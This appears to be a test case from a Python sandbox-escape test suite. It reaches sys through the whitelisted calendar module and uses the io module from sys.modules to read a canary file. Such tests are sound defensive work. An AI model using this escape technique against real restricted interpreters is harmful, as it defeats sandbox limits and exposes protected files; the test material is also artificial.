# desc: a listed module that imported sys
# class: escape
# wins: told
import calendar

def attack(state):
    return "L2:" + calendar.sys.modules["io"].open("@CANARY@").read()
